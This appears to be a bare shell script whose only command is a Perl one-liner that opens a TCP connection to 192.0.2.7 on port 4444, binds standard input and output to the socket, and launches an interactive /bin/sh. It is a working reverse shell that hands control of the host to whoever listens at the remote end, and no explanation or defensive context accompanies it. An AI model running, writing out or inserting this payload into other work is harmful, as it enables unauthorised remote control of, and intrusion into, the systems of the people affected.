#!/bin/sh
perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("192.0.2.7")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'
